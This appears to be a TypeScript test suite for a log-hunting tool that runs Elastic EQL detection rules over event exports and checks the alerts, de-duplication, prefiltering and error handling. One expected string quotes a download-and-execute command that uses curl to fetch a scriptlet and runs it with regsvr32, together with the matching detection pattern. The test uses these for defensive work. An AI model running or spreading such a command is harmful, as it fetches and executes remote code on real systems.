/**
 * eqlite hunt end to end, in process (worker threads are exercised by cli-hunt.test.ts through the
 * built CLI): alerts from every bundled format, determinism and de-duplication, the prefilter's
 * neutrality, sequences across files in any order, bad inputs, and Kibana's max_signals cap.
 */
import { copyFileSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { huntWithResult, type HuntOptions } from '../../../src/engine/hunt/hunt.js';
import { DEFAULT_HUNT_CONFIG, type HuntConfig } from '../../../src/engine/hunt/config.js';

const examples = new URL('../../../examples/', import.meta.url).pathname;

async function run(paths: string[], config: Partial<HuntConfig> = {}, extra: Partial<HuntOptions> = {}) {
  const err = new PassThrough();
  let stderr = '';
  err.on('data', (c: Buffer) => (stderr += c.toString()));
  const out = new PassThrough();
  let stdout = '';
  out.on('data', (c: Buffer) => (stdout += c.toString()));
  const r = await huntWithResult({
    paths,
    config: { ...DEFAULT_HUNT_CONFIG, ...config },
    spaceId: 'default',
    now: new Date('2026-11-28T00:00:00Z'),
    progress: false,
    summary: true,
    failOnAlert: false,
    threads: 1,
    stderr: err as unknown as NodeJS.WritableStream,
    stdout: out,
    ...extra,
  });
  return { ...r, stderr, stdout };
}

const ids = (alerts: Array<Record<string, unknown>>) => alerts.map((a) => String(a['kibana.alert.uuid'])).sort();

describe('eqlite hunt over the bundled examples', () => {
  it('finds the nine attacks in six formats with the built-in founding rule', async () => {
    const r = await run([examples]);
    expect(r.exitCode).toBe(0);
    expect(r.alerts).toHaveLength(9);
    const datasets = new Set(
      r.alerts.map((a) =>
        String((a.data_stream as { dataset?: string } | undefined)?.dataset ?? a['data_stream.dataset']),
      ),
    );
    expect([...datasets].sort()).toEqual(
      [
        'crowdstrike.fdr',
        'm365_defender.event',
        'sentinel_one_cloud_funnel.event',
        'system.security',
        'windows.sysmon_operational',
        'undefined',
      ].sort(),
    );
    for (const a of r.alerts) {
      expect(a['kibana.alert.rule.rule_id']).toBe('d9ffc3d6-9de9-4b29-9395-5757d0695ecf');
      expect(a['kibana.alert.workflow_status']).toBe('open');
      expect(a['event.kind'] ?? (a.event as { kind?: string }).kind).toBe('signal');
      expect(String(a['kibana.alert.reason'])).toMatch(
        /created high alert Suspicious Windows Command Shell Arguments\.$/,
      );
      expect(String((a.eqlite as { source: string }).source)).toMatch(/^.*examples\/.+:\d+/);
    }
    expect(r.stderr).toContain('9 alerts: high 9');
    expect(r.stderr).toMatch(/by MITRE ATT&CK tactic:[\s\S]*Execution/);
  });

  it('gives the same alert ids on every run, and one alert for an event read twice', async () => {
    const a = await run([examples]);
    const b = await run([examples]);
    expect(ids(b.alerts)).toEqual(ids(a.alerts));
    const dir = mkdtempSync(join(tmpdir(), 'eqlite-dup-'));
    copyFileSync(join(examples, 'ecs/fin-ws-07-sysmon.ndjson'), join(dir, 'copy1.ndjson'));
    copyFileSync(join(examples, 'ecs/fin-ws-07-sysmon.ndjson'), join(dir, 'copy2.ndjson'));
    const c = await run([dir]);
    expect(c.alerts).toHaveLength(3);
    expect(c.stderr).toContain('3 duplicate match(es)');
  });

  it('explains each alert with the matching branch and value', async () => {
    const r = await run([join(examples, 'ecs')], { explain: true });
    const curl = r.alerts.find((a) => JSON.stringify(a).includes('regsvr32 /s'));
    const explain = (curl?.eqlite as { explain: { matched: string[] } }).explain;
    expect(explain.matched).toContain(
      'process.command_line matched "* curl*regsvr32*" on "cmd.exe /c curl -s http://198.51.100.23/upd/a.sct -o %PUBLIC%\\\\a.sct && regsvr32 /s /n /u /i:%PUBLIC%\\\\a.sct scrobj.dll"',
    );
  });

  it('filters rules by severity, tag and tactic', async () => {
    expect((await run([examples], { minSeverity: 'critical' })).exitCode).toBe(4);
    expect((await run([examples], { tactics: ['TA0002'] })).alerts).toHaveLength(9);
    expect((await run([examples], { tags: ['OS: Linux'] })).exitCode).toBe(4);
  });
});

/** ECS process starts: some match the founding rule, most cannot. */
function ecsLines(n: number): string {
  const rows: string[] = [];
  for (let i = 0; i < n; i++) {
    const attack = i % 17 === 3;
    const upper = i % 34 === 3;
    const doc = {
      '@timestamp': new Date(Date.UTC(2026, 0, 1) + i * 1000).toISOString(),
      event: { category: ['process'], type: ['start'] },
      host: { id: `h${i % 5}`, name: `host-${i % 5}`, os: { type: 'windows' } },
      process: {
        name: attack ? (upper ? 'CMD.EXE' : 'cmd.exe') : i % 3 ? 'svchost.exe' : 'cmd.exe',
        command_line: attack ? `cmd /c echo a${i} > b & wscript b` : 'cmd.exe /c dir',
        args: ['cmd', '/c'],
        pid: i,
      },
    };
    // Some lines use dotted keys, as exports sometimes do.
    rows.push(
      i % 5 === 0
        ? JSON.stringify({
            '@timestamp': doc['@timestamp'],
            'event.category': 'process',
            'event.type': 'start',
            'host.os.type': 'windows',
            'host.name': doc.host.name,
            'process.name': doc.process.name,
            'process.command_line': doc.process.command_line,
          })
        : JSON.stringify(doc),
    );
  }
  return rows.join('\n') + '\n';
}

describe('the line prefilter never changes results', () => {
  it('gives the same alerts with and without it, and skips most lines', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'eqlite-pre-'));
    writeFileSync(join(dir, 'events.ndjson'), ecsLines(3000) + 'this is not json\n');
    const withPre = await run([dir], { prefilter: true });
    const without = await run([dir], { prefilter: false });
    expect(ids(withPre.alerts)).toEqual(ids(without.alerts));
    expect(withPre.alerts.length).toBeGreaterThan(100);
    expect(withPre.stderr).toMatch(/lines skipped unparsed by the prefilter/);
    // Without the prefilter the bad line is parsed and reported.
    expect(without.stderr).toContain('json-syntax');
  });

  it('keeps the events that stop a sequence: until clauses and missing-event stages', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'eqlite-pre-'));
    const rule = (id: string, query: string) =>
      [
        '[metadata]',
        'creation_date = "2026/11/29"',
        'maturity = "production"',
        'updated_date = "2026/11/29"',
        '[rule]',
        'author = ["eqlite"]',
        `description = "${id}"`,
        'from = "now-9m"',
        'index = ["logs-*"]',
        'language = "eql"',
        'license = "Elastic License v2"',
        `name = "${id}"`,
        'risk_score = 21',
        `rule_id = "${id}"`,
        'severity = "low"',
        'type = "eql"',
        `query = '''\n${query}\n'''`,
      ].join('\n');
    const rules = join(dir, 'rules');
    mkdirSync(rules);
    writeFileSync(
      join(rules, 'until.toml'),
      rule(
        'until-rule',
        'sequence by host.name with maxspan=1h [process where process.name == "alpha.exe"] [process where process.name == "bravo.exe"] until [process where process.name == "stopper.exe"]',
      ),
    );
    writeFileSync(
      join(rules, 'missing.toml'),
      rule(
        'missing-rule',
        'sequence by host.name with maxspan=1h [process where process.name == "alpha.exe"] ![process where process.name == "gamma.exe"] [process where process.name == "bravo.exe"]',
      ),
    );
    // Host h1: stopped by an until event; h2: by a missing-event stage's event; h3: neither.
    const ev = (t: number, host: string, name: string) =>
      JSON.stringify({
        '@timestamp': new Date(Date.UTC(2026, 10, 1, 0, 0, t)).toISOString(),
        event: { category: ['process'], type: ['start'] },
        host: { name: host },
        process: { name },
      });
    const lines = [
      ...['h1', 'h2', 'h3'].map((h, i) => ev(i, h, 'alpha.exe')),
      ev(10, 'h1', 'stopper.exe'),
      ev(11, 'h2', 'gamma.exe'),
      ...['h1', 'h2', 'h3'].map((h, i) => ev(20 + i, h, 'bravo.exe')),
    ];
    writeFileSync(join(dir, 'events.ndjson'), lines.join('\n') + '\n');
    const hosts = (alerts: Array<Record<string, unknown>>) =>
      alerts
        .filter((a) => a['kibana.alert.building_block_type'] === undefined)
        .map((a) => `${String(a['kibana.alert.rule.rule_id'])} ${JSON.stringify(a['host.name'] ?? a.host)}`)
        .sort();
    const withPre = await run([join(dir, 'events.ndjson')], { prefilter: true, rulePaths: [rules] });
    const without = await run([join(dir, 'events.ndjson')], { prefilter: false, rulePaths: [rules] });
    expect(hosts(withPre.alerts)).toEqual(hosts(without.alerts));
    // h1 only for the missing-event rule, h2 only for the until rule, h3 for both.
    expect(withPre.alerts.filter((a) => a['kibana.alert.building_block_type'] === undefined)).toHaveLength(4);
  });

  it('stands aside when most lines hold the literals, so it costs nothing where it skips nothing', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'eqlite-pre-'));
    // 5 MB of lines that hold every literal of a branch of the query (`cmd.exe`, `echo` and a
    // `wscript.exe` parent; kept, parsed, no match: the process ends, `start` is only in a note),
    // then lines with no literal, which a prefilter still running would skip.
    const pad = 'x'.repeat(150);
    const kept = (i: number) =>
      JSON.stringify({
        '@timestamp': '2026-01-01T00:00:00Z',
        n: i,
        pad,
        note: 'start',
        event: { category: 'process', type: 'end' },
        host: { os: { type: 'windows' } },
        process: { name: 'cmd.exe', args: 'echo', parent: { name: 'wscript.exe' } },
      });
    const plain = (i: number) => JSON.stringify({ '@timestamp': '2026-01-01T00:00:00Z', n: i, pad });
    const lines = [
      ...Array.from({ length: 30_000 }, (_, i) => kept(i)),
      ...Array.from({ length: 5_000 }, (_, i) => plain(i)),
    ];
    writeFileSync(join(dir, 'events.ndjson'), lines.join('\n') + '\n');
    const r = await run([dir], { prefilter: true });
    expect(r.exitCode).toBe(0);
    expect(r.stderr).toContain('35,000 records');
    expect(r.stderr).not.toMatch(/lines skipped unparsed by the prefilter/);
    // The same lines in the other order: the prefilter skips the plain ones it meets first.
    writeFileSync(join(dir, 'events.ndjson'), [...lines.slice(30_000), ...lines.slice(0, 30_000)].join('\n') + '\n');
    const again = await run([dir], { prefilter: true });
    expect(again.stderr).toMatch(/5,000 lines skipped unparsed by the prefilter/);
  });
});

describe('sequences across files', () => {
  const rule = (dir: string) => {
    writeFileSync(
      join(dir, 'seq.toml'),
      `[metadata]
creation_date = "2026/01/01"
maturity = "production"
updated_date = "2026/01/01"

[rule]
author = ["eqlite tests"]
description = "cmd.exe then a network connection from the same host"
from = "now-9m"
language = "eql"
license = "Apache-2.0"
name = "Shell then network"
risk_score = 47
rule_id = "0b6c8a59-0000-4000-8000-000000000001"
severity = "medium"
type = "eql"
query = '''
sequence by host.id with maxspan=1m
  [process where process.name == "cmd.exe"]
  [network where destination.port == 443]
'''
`,
    );
  };

  it('joins events from two files given in reverse time order', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'eqlite-seq-'));
    const data = join(dir, 'data');
    const rules = join(dir, 'rules');
    for (const d of [data, rules]) (await import('node:fs')).mkdirSync(d);
    rule(rules);
    writeFileSync(
      join(data, 'a-network.ndjson'),
      JSON.stringify({
        '@timestamp': '2026-01-01T00:00:30Z',
        event: { category: ['network'] },
        host: { id: 'h1' },
        destination: { port: 443 },
      }) + '\n',
    );
    writeFileSync(
      join(data, 'b-process.ndjson.gz'),
      gzipSync(
        JSON.stringify({
          '@timestamp': '2026-01-01T00:00:10Z',
          event: { category: ['process'] },
          host: { id: 'h1' },
          process: { name: 'cmd.exe' },
        }) + '\n',
      ),
    );
    const r = await run([data], { rulePaths: [rules] });
    const shells = r.alerts.filter((a) => !a['kibana.alert.building_block_type']);
    const blocks = r.alerts.filter((a) => a['kibana.alert.building_block_type'] === 'default');
    expect(shells).toHaveLength(1);
    expect(blocks).toHaveLength(2);
    expect(blocks.map((b) => b['kibana.alert.group.id'])).toEqual([
      shells[0]['kibana.alert.uuid'],
      shells[0]['kibana.alert.uuid'],
    ]);
  });
});

describe('bad input never stops the hunt', () => {
  it('reports unreadable, truncated, invalid and unknown inputs, and reads the good records', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'eqlite-bad-'));
    copyFileSync(join(examples, 'ecs/fin-ws-07-sysmon.ndjson'), join(dir, 'good.ndjson'));
    const gz = gzipSync(ecsLines(50));
    writeFileSync(join(dir, 'truncated.ndjson.gz'), gz.subarray(0, gz.length - 20));
    writeFileSync(join(dir, 'binary.bin'), Buffer.from([0, 1, 2, 3, 0, 0, 255, 254, 0, 7]));
    writeFileSync(
      join(dir, 'broken.ndjson'),
      '{"@timestamp":"2026-01-01T00:00:00Z","event":{"category":"process"}}\n{"broken\n',
    );
    const r = await run([dir, join(dir, 'missing.ndjson')], { prefilter: false });
    expect(r.exitCode).toBe(0);
    expect(r.alerts.length).toBeGreaterThanOrEqual(3);
    expect(r.stderr).toContain('unknown-format');
    expect(r.stderr).toContain('input-unreadable');
    expect(r.stderr).toMatch(/json-syntax: 1[\s\S]*broken\.ndjson:2/);
    expect(r.stderr).toMatch(/truncated\.ndjson\.gz/);
    // The truncated archive's records before the cut are read: its three attacks (hosts host-*) alert,
    // and the cut is reported where it is.
    const hostOf = (a: Record<string, unknown>) => a['host.name'] ?? (a.host as { name?: string } | undefined)?.name;
    const fromTruncated = r.alerts.filter((a) => /^host-/.test(String(hostOf(a))));
    expect(fromTruncated).toHaveLength(3);
    expect(r.stderr).toMatch(
      /input-truncated: 1\s+\S*truncated\.ndjson\.gz:\d+: unexpected end of file \(after [\d,]+ records, which were read\)/,
    );
  });

  it('a .gz cut inside its first block: the records decompressed before the cut are read', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'eqlite-bad-'));
    const gz = gzipSync(ecsLines(40));
    writeFileSync(join(dir, 'cut.ndjson.gz'), gz.subarray(0, Math.floor(gz.length * 0.6)));
    const r = await run([dir], { prefilter: false });
    expect(r.exitCode).toBe(0);
    expect(r.stats?.records).toBeGreaterThan(0);
    expect(r.stderr).toMatch(/input-truncated: 1/);
    expect(r.stderr).not.toContain('input-unreadable');
  });

  it('reads the first record of a file that opens with a UTF-8 byte order mark, plain and gzipped, CRLF or not', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'eqlite-bom-'));
    // The attack (i = 3) first, right after the mark.
    const lines = ecsLines(4).trim().split('\n');
    lines.unshift(...lines.splice(3, 1));
    const bom = '\ufeff';
    writeFileSync(join(dir, 'bom.ndjson'), bom + lines.join('\r\n') + '\r\n');
    writeFileSync(join(dir, 'bom.ndjson.gz'), gzipSync(bom + lines.join('\n') + '\n'));
    for (const file of ['bom.ndjson', 'bom.ndjson.gz'])
      for (const prefilter of [true, false]) {
        const r = await run([join(dir, file)], { prefilter });
        expect(r.stderr, `${file}, prefilter ${prefilter}`).not.toContain('json-syntax');
        expect(r.alerts, `${file}, prefilter ${prefilter}`).toHaveLength(1);
        expect(r.stats?.records).toBe(4);
      }
  });

  it('reads the hits of a small search response saved on one line (read as NDJSON), with or without the prefilter', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'eqlite-resp-'));
    const docs = ecsLines(40)
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as unknown);
    const response = {
      took: 1,
      hits: {
        hits: docs.map((d, i) => ({ _index: 'logs-windows.sysmon_operational-default', _id: `e${i}`, _source: d })),
      },
    };
    writeFileSync(join(dir, 'response.json'), JSON.stringify(response) + '\n');
    for (const prefilter of [true, false]) {
      const r = await run([join(dir, 'response.json')], { prefilter });
      expect(r.stats?.records).toBe(40);
      // The attacks (i = 3, 20, 37), each alert tied to its hit's _id.
      expect(r.alerts.map((a) => (a['kibana.alert.ancestors'] as Array<{ id: string }>)[0].id).sort()).toEqual([
        'e20',
        'e3',
        'e37',
      ]);
    }
  });

  it('fails, never claims to have written, when an output cannot be written', async () => {
    const missing = join(mkdtempSync(join(tmpdir(), 'eqlite-out-')), 'no-such-folder');
    await expect(run([examples], {}, { timeline: join(missing, 't.csv') })).rejects.toThrow(/ENOENT/);
    await expect(run([examples], {}, { output: join(missing, 'a.ndjson') })).rejects.toThrow(/ENOENT/);
  });

  it('exits 3 when no input can be read', async () => {
    expect((await run(['/nonexistent/eqlite/input'])).exitCode).toBe(3);
  });
});

describe("Kibana's max_signals", () => {
  it('reports the windows where the schedule would have dropped alerts, and applies a cap on request', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'eqlite-cap-'));
    // 60 matching events inside one 5-minute window.
    const rows = Array.from({ length: 60 }, (_, i) =>
      JSON.stringify({
        '@timestamp': new Date(Date.UTC(2026, 0, 1, 0, 0, i)).toISOString(),
        event: { category: ['process'], type: ['start'] },
        host: { os: { type: 'windows' }, name: 'h' },
        process: { name: 'cmd.exe', command_line: `cmd /c echo ${i} | wscript x` },
      }),
    );
    writeFileSync(join(dir, 'burst.ndjson'), rows.join('\n') + '\n');
    const all = await run([dir]);
    expect(all.alerts).toHaveLength(60);
    const capped = await run([dir], {}, { maxSignals: 10 });
    expect(capped.alerts).toHaveLength(10);
    // Kibana keeps the most recent results of a run.
    expect(capped.alerts.map((a) => a['kibana.alert.original_time']).sort()[0]).toBe('2026-01-01T00:00:50.000Z');
    expect(capped.stderr).toMatch(/max_signals applied \(10 per run window\)[\s\S]*50 over 1 window/);
  });
});
